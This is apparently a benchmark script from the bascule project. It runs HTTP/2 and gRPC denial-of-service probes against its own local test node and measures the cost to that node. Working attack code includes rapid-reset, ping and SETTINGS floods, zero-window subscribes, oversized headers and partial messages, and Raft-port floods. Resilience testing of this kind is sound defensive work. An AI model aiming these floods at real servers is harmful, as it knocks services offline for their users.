"""The attack probes of issue 27, re-run against a real bascule node: what each one costs the node.

One node is started with `LocalCluster(1)` (its own nats-server, a random Raft password, nothing else
configured but the metrics port, which `metrics-idle` needs). A stream ("attack-sub") gets 2000
messages of 1 KiB first. Then, one attack at a time, from raw sockets on loopback:

    zero-window-subscribe  1000 Subscribe calls (from EARLIEST) on a connection that opens no window, held 10 s
    unread-publish-async   a PublishAsync call that sends requests for 10 s and never reads an ack (window 0)
    rapid-reset            up to 201,000 Health/Check calls opened and cancelled at once (CVE-2023-44487), 15 s
    pipelined-unary        178,000 FetchMetadata calls written back to back, their responses read, 20 s
    ping-flood             PING frames never read, up to 200 MiB (CVE-2019-9512)
    settings-flood         empty SETTINGS frames never read, up to 200 MiB (CVE-2019-9515)
    partial-messages       12 Publish calls (one per connection) announcing 64 MiB messages, sending up to 60 MiB
    big-headers            one HEADERS frame of 1 MiB (one literal header)
    raft-port-flood        51 MiB on the Raft port without the password (a 51 MiB message announced, then random bytes)
    raft-idle              200 silent connections to the Raft port, held 15 s
    metrics-idle           70 idle connections to the metrics port, then GET /healthz (1 s timeout)

For each it prints one line: the bytes the attacker wrote (into its socket: a server that closes the
connection may have read fewer), the seconds the attack took, the CPU seconds
of the node's process (utime + stime, during the attack and the 2 s after), its RSS before, at its peak
(sampled every 0.1 s) and after (MiB), how many calls of a well-behaved client were answered (its own
thread and grpcio channel, FetchMetadata every 0.2 s with a 1 s deadline, during the attack and 2 s
after) and the slowest of them, what became of the attacker's connection (the GOAWAY it got, closed by
the server, reset, or still open), and a note. It measures; it asserts nothing.

    .venv/bin/python -m benchmarks.attacks
    .venv/bin/python -m benchmarks.attacks --only rapid-reset ping-flood
"""

from __future__ import annotations

import argparse
import collections
import contextlib
import errno
import os
import select
import socket
import struct
import threading
import time
import urllib.request
from collections.abc import Callable, Iterable
from dataclasses import dataclass

import grpc
import hpack
from h2.errors import ErrorCodes

from bascule.testing.local import LocalCluster
from bascule.testing.ports import free_port
from bascule.wire.pb import api_pb2, api_pb2_grpc

MiB = 1 << 20
STREAM, SUBJECT = "attack-sub", "attack.sub"
PROBE_INTERVAL, PROBE_TIMEOUT = 0.2, 1.0
TAIL = 2.0  # seconds the probe and the CPU count go on after an attack
STALL = 2.0  # a write making no progress this long: the server has stopped reading

SUBSCRIBE, PUBLISH, PUBLISH_ASYNC = "/proto.API/Subscribe", "/proto.API/Publish", "/proto.API/PublishAsync"
FETCH_METADATA, HEALTH_CHECK = "/proto.API/FetchMetadata", "/grpc.health.v1.Health/Check"

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE = 0x4, 0x5
DEFAULT_WINDOW, DEFAULT_FRAME, MAX_WINDOW = 65535, 16384, (1 << 31) - 1


# --- the node's process ------------------------------------------------------------------------------


def rss_mib(pid: int) -> float:
    """VmRSS of `pid` in MiB (nan once it is gone)."""
    with contextlib.suppress(OSError), open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return float("nan")


def cpu_seconds(pid: int) -> float:
    """utime + stime of `pid` (all its threads) in seconds (nan once it is gone)."""
    try:
        with open(f"/proc/{pid}/stat") as stat:
            fields = stat.read().rsplit(")", 1)[1].split()
    except OSError:
        return float("nan")
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


class PeakRss(threading.Thread):
    """The highest RSS of a process, sampled every 0.1 s until `stop`."""

    def __init__(self, pid: int) -> None:
        super().__init__(daemon=True)
        self.pid, self.peak = pid, rss_mib(pid)
        self._stopped = threading.Event()

    def run(self) -> None:
        while not self._stopped.wait(0.1):
            rss = rss_mib(self.pid)
            if rss == rss:  # not nan
                self.peak = max(self.peak, rss)

    def stop(self) -> float:
        self._stopped.set()
        self.join()
        return self.peak


class Probe(threading.Thread):
    """A well-behaved client: FetchMetadata every 0.2 s with a 1 s deadline, on its own grpcio channel."""

    def __init__(self, address: str) -> None:
        super().__init__(daemon=True)
        self.channel = grpc.insecure_channel(address)
        self.stub = api_pb2_grpc.APIStub(self.channel)
        self.answered = self.total = 0
        self.slowest = 0.0
        self._stopped = threading.Event()

    def call(self) -> bool:
        try:
            self.stub.FetchMetadata(api_pb2.FetchMetadataRequest(), timeout=PROBE_TIMEOUT)
        except grpc.RpcError:
            return False
        return True

    def run(self) -> None:
        next_call = time.monotonic()
        while not self._stopped.is_set():
            started = time.monotonic()
            self.answered += self.call()
            self.total += 1
            self.slowest = max(self.slowest, time.monotonic() - started)
            next_call = max(next_call + PROBE_INTERVAL, time.monotonic())
            self._stopped.wait(next_call - time.monotonic())

    def stop(self) -> None:
        self._stopped.set()
        self.join()
        self.channel.close()


# --- HTTP/2 and gRPC bytes ---------------------------------------------------------------------------


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream_id) + payload


def settings_frame(settings: dict[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", code, value) for code, value in settings.items()))


def grpc_message(message: object) -> bytes:
    body = message.SerializeToString()  # type: ignore[attr-defined]
    return struct.pack(">BI", 0, len(body)) + body


def calls(encoder: hpack.Encoder, headers: list[tuple[str, str]], streams: Iterable[int],
          body: bytes | None = None, reset: bool = False) -> bytes:
    """The frames of one call per stream id: HEADERS, then DATA `body` with END_STREAM, or RST_STREAM
    CANCEL when `reset`. After its first block `encoder` finds every header in its table, so the
    others are one same block."""
    first, again = encoder.encode(headers), encoder.encode(headers)
    parts = []
    for index, stream_id in enumerate(streams):
        parts.append(frame(HEADERS, END_HEADERS, stream_id, again if index else first))
        if reset:
            parts.append(frame(RST_STREAM, 0, stream_id, struct.pack(">I", ErrorCodes.CANCEL)))
        elif body is not None:
            parts.append(frame(DATA, END_STREAM, stream_id, body))
    return b"".join(parts)


def big_header_block(headers: list[tuple[str, str]], size: int) -> bytes:
    """A header block of `size` bytes: `headers` and one literal header making up the rest."""
    def encode(length: int) -> bytes:
        return hpack.Encoder().encode([*headers, ("x-big", "a" * length)], huffman=False)

    length = size - len(encode(0))
    return encode(length - (len(encode(length)) - size))


# --- an attacker's connection ------------------------------------------------------------------------


class Connection:
    """A raw socket to the node. `write` gives up when the server takes nothing for `stall` seconds;
    `read` starts a thread that reads what the server sends: with `h2`, its frames (GOAWAY, resets,
    ended calls, gRPC statuses when `decode`, flow-control windows), else just until it closes."""

    def __init__(self, host: str, port: int, h2: bool = True, settings: dict[int, int] | None = None,
                 window: int = 0, decode: bool = False) -> None:
        self.sock = socket.create_connection((host, port), timeout=5)
        self.h2, self.decoder = h2, hpack.Decoder() if decode else None
        self.sent = 0
        self.write_error = ""
        self.goaway: int | None = None
        self.eof = self.reset = self.closing = False
        self.closed_at: float | None = None
        self.resets: collections.Counter[int] = collections.Counter()
        self.headers = 0  # HEADERS frames: responses begun, or ended
        self.ended = 0  # calls the server ended with trailers
        self.with_data: set[int] = set()
        self.statuses: collections.Counter[str] = collections.Counter()
        self.window, self.windows = DEFAULT_WINDOW, dict[int, int]()
        self.initial_window, self.max_frame = DEFAULT_WINDOW, DEFAULT_FRAME
        self.changed = threading.Condition()
        self.settings_seen = threading.Event()
        self._reader: threading.Thread | None = None
        if h2:
            opening = PREFACE + settings_frame(settings or {}) + frame(SETTINGS, ACK, 0)
            if window:
                opening += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", window))
            self.write(opening)

    # -- writing --
    def write(self, data: bytes, stall: float = STALL, deadline: float | None = None) -> bool:
        """Write all of `data` (True), or stop when the server closes, takes nothing for `stall`
        seconds, or `deadline` passes (False, the reason in `write_error`)."""
        view = memoryview(data)
        while view:
            wait = stall if deadline is None else min(stall, deadline - time.monotonic())
            if wait <= 0:
                self.write_error = "deadline"
                return False
            self.sock.settimeout(wait)
            try:
                written = self.sock.send(view)
            except TimeoutError:
                self.write_error = "write blocked" if wait == stall else "deadline"
                return False
            except OSError as error:
                self.write_error = type(error).__name__
                return False
            self.sent += written
            view = view[written:]
        return True

    def open_stream(self, stream_id: int) -> None:
        self.settings_seen.wait(5)
        with self.changed:
            self.windows[stream_id] = self.initial_window

    def credit(self, stream_id: int, timeout: float, want: int) -> int:
        """Bytes (up to `want`) `stream_id` may send in one frame now, waiting up to `timeout` for a
        window to open; 0 when none opens or the server ends the connection."""
        def available() -> int:
            return min(self.window, self.windows[stream_id], self.max_frame)

        with self.changed:
            self.changed.wait_for(lambda: self.gone() or available() > 0, max(0.0, timeout))
            size = 0 if self.gone() else max(0, min(available(), want))
            self.window -= size
            self.windows[stream_id] -= size
            return size

    # -- reading --
    def read(self) -> Connection:
        if self._reader is None:
            self._reader = threading.Thread(target=self._read, daemon=True)
            self._reader.start()
        return self

    def gone(self) -> bool:
        """The server ended the connection (or writing to it failed)."""
        return (self.eof or self.reset or self.goaway is not None
                or self.write_error not in ("", "deadline", "write blocked"))

    def wait(self, condition: Callable[[], bool], timeout: float) -> None:
        """Until `condition` holds (checked at each control frame, and every 50 ms) or `timeout` passes."""
        deadline = time.monotonic() + timeout
        with self.changed:
            while not condition() and (left := deadline - time.monotonic()) > 0:
                self.changed.wait(min(0.05, left))

    def hold(self, seconds: float) -> None:
        """Until `seconds` pass or the server ends the connection."""
        self.wait(lambda: self.eof or self.reset or self.goaway is not None, seconds)

    def _read(self) -> None:
        buffer = bytearray()
        while not self.closing:
            try:
                chunk = self.sock.recv(1 << 18)
            except TimeoutError:
                continue
            except OSError:
                self.reset = not self.closing
                break
            if not chunk:
                self.eof = True
                break
            if self.h2:
                buffer += chunk
                del buffer[:self._frames(buffer)]
        self.closed_at = time.monotonic()
        with self.changed:
            self.changed.notify_all()

    def _frames(self, buffer: bytearray) -> int:
        offset = 0
        while len(buffer) - offset >= 9:
            length = int.from_bytes(buffer[offset:offset + 3], "big")
            if len(buffer) - offset - 9 < length:
                break
            kind, flags, stream_id = struct.unpack_from(">BBI", buffer, offset + 3)
            start = offset + 9
            offset = start + length
            if kind == DATA:
                self.with_data.add(stream_id)
            elif kind == HEADERS:
                self._headers(flags, bytes(buffer[start:offset]))
            elif kind == RST_STREAM:
                self.resets[struct.unpack_from(">I", buffer, start)[0]] += 1
            elif kind in (SETTINGS, GOAWAY, WINDOW_UPDATE):
                with self.changed:
                    self._control(kind, flags, stream_id & MAX_WINDOW, bytes(buffer[start:offset]))
                    self.changed.notify_all()
        return offset

    def _headers(self, flags: int, block: bytes) -> None:
        self.headers += 1
        if self.decoder is not None:
            for name, value in self.decoder.decode(block):
                if name == "grpc-status":
                    self.statuses[str(value)] += 1
        if flags & END_STREAM:
            self.ended += 1

    def _control(self, kind: int, flags: int, stream_id: int, payload: bytes) -> None:
        if kind == GOAWAY:
            self.goaway = struct.unpack_from(">I", payload, 4)[0]
        elif kind == WINDOW_UPDATE:
            increment = struct.unpack(">I", payload)[0] & MAX_WINDOW
            if stream_id == 0:
                self.window += increment
            elif stream_id in self.windows:
                self.windows[stream_id] += increment
        elif not flags & ACK:
            for code, value in struct.iter_unpack(">HI", payload):
                if code == INITIAL_WINDOW_SIZE:
                    for stream in self.windows:
                        self.windows[stream] += value - self.initial_window
                    self.initial_window = value
                elif code == MAX_FRAME_SIZE:
                    self.max_frame = value
            self.settings_seen.set()

    # -- the end --
    def fate(self, wait: float = 0.5) -> str:
        """What became of the connection: the GOAWAY it got, and whether the server closed it."""
        self.read()
        self.wait(lambda: self.eof or self.reset or self.goaway is not None, wait)
        if self.goaway is not None:
            self.wait(lambda: self.eof or self.reset, 0.5)
        state = "closed" if self.eof else "reset" if self.reset else "open"
        if self.goaway is None:
            return state
        try:
            name = ErrorCodes(self.goaway).name
        except ValueError:
            name = hex(self.goaway)
        return f"GOAWAY {name}, {state}"

    def close(self) -> None:
        self.closing = True
        with contextlib.suppress(OSError):
            self.sock.shutdown(socket.SHUT_RDWR)
        self.sock.close()
        if self._reader is not None:
            self._reader.join(1.0)

    def finish(self, note: str = "") -> Outcome:
        fate = self.fate()
        self.close()
        return Outcome(self.sent, fate, note)


# --- attacks -----------------------------------------------------------------------------------------


@dataclass
class Outcome:
    sent: int  # bytes the attacker wrote
    connection: str  # what became of its connection
    note: str = ""


@dataclass
class Target:
    host: str
    port: int
    raft_port: int
    metrics_port: int

    @property
    def address(self) -> str:
        return f"{self.host}:{self.port}"

    def connect(self, **options: object) -> Connection:
        return Connection(self.host, self.port, **options)  # type: ignore[arg-type]

    def headers(self, path: str) -> list[tuple[str, str]]:
        return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", self.address),
                ("content-type", "application/grpc"), ("te", "trailers")]


Attack = Callable[[], Outcome]
ATTACKS: dict[str, Callable[[Target], Attack]] = {}


def attack(name: str) -> Callable[[Callable[[Target], Attack]], Callable[[Target], Attack]]:
    """Register an attack: a function that builds its bytes (untimed) and returns the timed run."""
    def register(prepare: Callable[[Target], Attack]) -> Callable[[Target], Attack]:
        ATTACKS[name] = prepare
        return prepare
    return register


def fates(connections: list[Connection]) -> str:
    counted = collections.Counter(connection.fate(0.2) for connection in connections)
    return "; ".join(f"{count}x {fate}" for fate, count in counted.most_common())


def streams(count: int) -> range:
    return range(1, 2 * count, 2)


@attack("zero-window-subscribe")
def zero_window_subscribe(target: Target) -> Attack:
    request = grpc_message(api_pb2.SubscribeRequest(stream=STREAM, startPosition=api_pb2.EARLIEST))
    subscribes = calls(hpack.Encoder(), target.headers(SUBSCRIBE), streams(1000), body=request)

    def run() -> Outcome:
        connection = target.connect(settings={INITIAL_WINDOW_SIZE: 0}).read()
        connection.write(subscribes)
        connection.hold(10.0)
        return connection.finish(f"{connection.headers} response HEADERS, {connection.ended} calls ended, "
                                 f"resets {dict(connection.resets)}")
    return run


def send_stream(connection: Connection, stream_id: int, data: bytes, deadline: float,
                cyclic: int = 0) -> tuple[int, str]:
    """Send `data` (over and over, from a multiple of `cyclic` bytes, when `cyclic`) on `stream_id` as far
    as flow control allows until `deadline`, or no window opens for STALL s: the bytes sent and why it
    stopped."""
    sent = 0
    while cyclic or sent < len(data):
        left = deadline - time.monotonic()
        if left <= 0:
            return sent, "deadline"
        start = sent % cyclic if cyclic else sent
        size = connection.credit(stream_id, min(STALL, left), len(data) - start)
        if not size:
            return sent, "server ended the connection" if connection.gone() else f"no window for {STALL:.0f} s"
        if not connection.write(frame(DATA, 0, stream_id, data[start:start + size]), deadline=deadline):
            return sent, connection.write_error
        sent += size
    return sent, "all sent"


@attack("unread-publish-async")
def unread_publish_async(target: Target) -> Attack:
    one = grpc_message(api_pb2.PublishRequest(stream=STREAM))
    requests = one * (2 * MiB // len(one))
    opening = calls(hpack.Encoder(), target.headers(PUBLISH_ASYNC), [1])

    def run() -> Outcome:
        connection = target.connect(settings={INITIAL_WINDOW_SIZE: 0}).read()
        connection.write(opening)
        connection.open_stream(1)
        sent, why = send_stream(connection, 1, requests, time.monotonic() + 10.0, cyclic=len(one))
        return connection.finish(f"{sent // len(one):,} requests of {len(one)} B sent; stopped by: {why}")
    return run


@attack("rapid-reset")
def rapid_reset(target: Target) -> Attack:
    encoder, batch = hpack.Encoder(), 1000
    batches = [calls(encoder, target.headers(HEALTH_CHECK), range(first, first + 2 * batch, 2), reset=True)
               for first in range(1, 2 * 201_000, 2 * batch)]
    per_call = len(batches[-1]) / batch

    def run() -> Outcome:
        connection = target.connect().read()
        opening, deadline = connection.sent, time.monotonic() + 15.0
        for data in batches:
            if connection.gone() or not connection.write(data, deadline=deadline):
                break
        opened = round((connection.sent - opening) / per_call)
        return connection.finish(f"~{opened:,} calls written (opened and reset); "
                                 f"stopped by: {connection.write_error or 'all sent or server'}")
    return run


@attack("pipelined-unary")
def pipelined_unary(target: Target) -> Attack:
    count = 178_000
    data = calls(hpack.Encoder(), target.headers(FETCH_METADATA), streams(count),
                 body=grpc_message(api_pb2.FetchMetadataRequest()))

    def run() -> Outcome:
        connection = target.connect(settings={INITIAL_WINDOW_SIZE: MAX_WINDOW},
                                    window=MAX_WINDOW - DEFAULT_WINDOW).read()
        started = time.monotonic()
        deadline = started + 20.0
        connection.write(data, stall=20.0, deadline=deadline)
        written = time.monotonic() - started
        connection.wait(lambda: connection.gone() or connection.ended + connection.resets.total() >= count,
                        deadline - time.monotonic())
        done = time.monotonic() - started
        refused = connection.resets.pop(ErrorCodes.REFUSED_STREAM, 0)
        answered = min(connection.ended, len(connection.with_data))  # a response message, then trailers
        return connection.finish(
            f"written in {written:.1f} s, over {done:.1f} s in; {answered:,} answered with a response, "
            f"{connection.ended - answered:,} ended without, {refused:,} REFUSED_STREAM, "
            f"other resets {dict(connection.resets)}, "
            f"{count - connection.ended - refused - connection.resets.total():,} unanswered")
    return run


def flood(target: Target, one: bytes) -> Attack:
    """`one` frame written over and over, the socket never read, up to 200 MiB, 20 s, or a stall."""
    chunk = one * (MiB // len(one))

    def run() -> Outcome:
        connection = target.connect()
        deadline = time.monotonic() + 20.0
        while connection.sent < 200 * MiB and connection.write(chunk, deadline=deadline):
            pass
        why = connection.write_error or "200 MiB"
        return connection.finish(f"{connection.sent // len(one):,} frames; stopped by: {why}")
    return run


@attack("ping-flood")
def ping_flood(target: Target) -> Attack:
    return flood(target, frame(PING, 0, 0, b"attacker"))


@attack("settings-flood")
def settings_flood(target: Target) -> Attack:
    return flood(target, frame(SETTINGS, 0, 0))


@attack("partial-messages")
def partial_messages(target: Target) -> Attack:
    message = struct.pack(">BI", 0, 64 * MiB) + bytes(60 * MiB)  # announces 64 MiB, holds 60
    opening = calls(hpack.Encoder(), target.headers(PUBLISH), [1])

    def send(connection: Connection, deadline: float, sent: list[tuple[int, str]]) -> None:
        if connection.write(opening):
            connection.open_stream(1)
            sent.append(send_stream(connection, 1, message, deadline))

    def run() -> Outcome:
        connections = [target.connect(decode=True).read() for _ in range(12)]
        deadline, sent = time.monotonic() + 20.0, list[tuple[int, str]]()
        threads = [threading.Thread(target=send, args=(c, deadline, sent)) for c in connections]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        statuses = sum((c.statuses for c in connections), collections.Counter())
        resets = sum((c.resets for c in connections), collections.Counter())
        stops = collections.Counter(why for _, why in sent)
        outcome = Outcome(sum(c.sent for c in connections), fates(connections),
                          f"MiB of message sent per call: {sorted(round(n / MiB, 1) for n, _ in sent)}; "
                          f"grpc-status {dict(statuses)}, resets {dict(resets)}; stopped by {dict(stops)}")
        for connection in connections:
            connection.close()
        return outcome
    return run


@attack("big-headers")
def big_headers(target: Target) -> Attack:
    block = big_header_block(target.headers(FETCH_METADATA), MiB)
    data = frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, END_STREAM, 1,
                                                          grpc_message(api_pb2.FetchMetadataRequest()))

    def run() -> Outcome:
        connection = target.connect(decode=True).read()
        connection.write(data)
        connection.wait(lambda: connection.gone() or connection.ended > 0, 5.0)
        return connection.finish(f"a block of {len(block):,} B; answer: grpc-status {dict(connection.statuses)}, "
                                 f"resets {dict(connection.resets)}")
    return run


@attack("raft-port-flood")
def raft_port_flood(target: Target) -> Attack:
    size = 51 * MiB
    garbage = struct.pack("i", size - 4) + os.urandom(MiB) * 51  # pysyncobj's length prefix, then noise

    def run() -> Outcome:
        connection = Connection(target.host, target.raft_port, h2=False).read()
        started = time.monotonic()
        connection.write(garbage[:size], deadline=started + 20.0)
        connection.hold(1.0)
        closed = f"closed {connection.closed_at - started:.2f} s in" if connection.closed_at else "not closed"
        return connection.finish(f"{closed}; writing stopped by: {connection.write_error or 'all sent'}")
    return run


def socket_state(sock: socket.socket) -> str:
    """"open", "closed" (EOF), "reset", "connecting" or why connecting failed, without waiting."""
    if not select.select([], [sock], [], 0)[1]:
        return "connecting"
    if error := sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
        return errno.errorcode.get(error, str(error))
    try:
        return "closed" if sock.recv(1, socket.MSG_PEEK) == b"" else "open"
    except BlockingIOError:
        return "open"
    except OSError:
        return "reset"


def idle_connections(port: int, count: int) -> list[socket.socket]:
    """`count` sockets connecting to `port` (without waiting: a full accept queue delays some)."""
    sockets = []
    for _ in range(count):
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex(("127.0.0.1", port))
        sockets.append(sock)
    return sockets


def summary(sockets: list[socket.socket]) -> str:
    states = collections.Counter(socket_state(sock) for sock in sockets)
    return ", ".join(f"{state} {n}/{len(sockets)}" for state, n in states.most_common())


@attack("raft-idle")
def raft_idle(target: Target) -> Attack:
    def run() -> Outcome:
        started = time.monotonic()
        sockets = idle_connections(target.raft_port, 200)
        try:
            established = None
            while (elapsed := time.monotonic() - started) < 15.0:
                if established is None and not any(socket_state(sock) == "connecting" for sock in sockets):
                    established = elapsed
                time.sleep(0.25)
            when = f"{established:.1f} s in" if established is not None else "not within 15 s"
            return Outcome(0, summary(sockets), f"after 15 s; every handshake done {when}")
        finally:
            for sock in sockets:
                sock.close()
    return run


@attack("metrics-idle")
def metrics_idle(target: Target) -> Attack:
    def run() -> Outcome:
        sockets = idle_connections(target.metrics_port, 70)
        try:
            time.sleep(0.5)
            started = time.monotonic()
            try:
                url = f"http://127.0.0.1:{target.metrics_port}/healthz"
                with urllib.request.urlopen(url, timeout=1.0) as response:
                    answer = f"{response.status} {response.read().decode()!r}"
            except OSError as error:
                answer = f"{type(error).__name__}: {error}"
            took = (time.monotonic() - started) * 1000
            return Outcome(0, summary(sockets), f"/healthz beside 70 idle: {answer} in {took:.0f} ms")
        finally:
            for sock in sockets:
                sock.close()
    return run


# --- the run -----------------------------------------------------------------------------------------


def prepare_stream(address: str) -> None:
    """Stream "attack-sub" with 2000 messages of 1 KiB."""
    with grpc.insecure_channel(address) as channel:
        stub = api_pb2_grpc.APIStub(channel)
        stub.CreateStream(api_pb2.CreateStreamRequest(subject=SUBJECT, name=STREAM, replicationFactor=1,
                                                      partitions=1), timeout=30)
        value = b"x" * 1024
        for attempt in range(100):  # until the partition has a leader
            try:
                stub.Publish(api_pb2.PublishRequest(stream=STREAM, value=value), timeout=5)
                break
            except grpc.RpcError:
                if attempt == 99:
                    raise
                time.sleep(0.1)
        requests = (api_pb2.PublishRequest(stream=STREAM, value=value, correlationId=str(i)) for i in range(1999))
        acks = sum(1 for _ in stub.PublishAsync(requests, timeout=60))
    print(f"stream {STREAM}: {acks + 1} messages of 1 KiB", flush=True)


def settle(address: str, pid: int, timeout: float = 30.0) -> None:
    """Until the node answers FetchMetadata and uses less than 20% of a CPU over half a second."""
    probe, deadline = Probe(address), time.monotonic() + timeout
    try:
        while time.monotonic() < deadline and not probe.call():
            time.sleep(0.2)
        while time.monotonic() < deadline:
            used = cpu_seconds(pid)
            time.sleep(0.5)
            if not cpu_seconds(pid) - used > 0.1:
                break
    finally:
        probe.channel.close()


def size(count: int) -> str:
    return f"{count / MiB:.1f} MiB" if count >= MiB else f"{count / 1024:.1f} KiB"


COLUMNS = (f"{'attack':<22} {'sent':>10} {'secs':>5} {'cpu s':>6} {'RSS MiB before/peak/after':>26} "
           f"{'probe ok':>9} {'max ms':>6}  connection | note")


def measure(name: str, target: Target, pid: int) -> str:
    run = ATTACKS[name](target)
    settle(target.address, pid)
    rss_before, cpu_before = rss_mib(pid), cpu_seconds(pid)
    peak, probe = PeakRss(pid), Probe(target.address)
    peak.start()
    probe.start()
    started = time.monotonic()
    try:
        outcome = run()
    except Exception as error:  # noqa: BLE001 - a measuring tool: report it and go on
        outcome = Outcome(0, "error", f"{type(error).__name__}: {error}")
    seconds = time.monotonic() - started
    time.sleep(TAIL)
    probe.stop()
    rss_peak = peak.stop()
    cpu = cpu_seconds(pid) - cpu_before
    rss = f"{rss_before:.0f}/{rss_peak:.0f}/{rss_mib(pid):.0f}"
    answered = f"{probe.answered}/{probe.total}"
    return (f"{name:<22} {size(outcome.sent):>10} {seconds:>5.1f} {cpu:>6.2f} {rss:>26} {answered:>9} "
            f"{probe.slowest * 1000:>6.0f}  {outcome.connection} | {outcome.note}")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--only", nargs="+", choices=list(ATTACKS), metavar="NAME",
                        help=f"attacks to run (default: all): {', '.join(ATTACKS)}")
    names = parser.parse_args().only or list(ATTACKS)
    metrics_port = free_port()
    with LocalCluster(1, config={"metrics": {"port": metrics_port}}) as cluster:
        node = cluster.nodes[0]
        target = Target(node.host, node.port, node.raft_port, metrics_port)
        prepare_stream(target.address)
        print(COLUMNS, flush=True)
        for name in names:
            if not node.running:
                print(f"(node exited with {node.returncode}; restarting it)", flush=True)
                cluster.restart(0)
            print(measure(name, target, node.pid), flush=True)


if __name__ == "__main__":
    main()
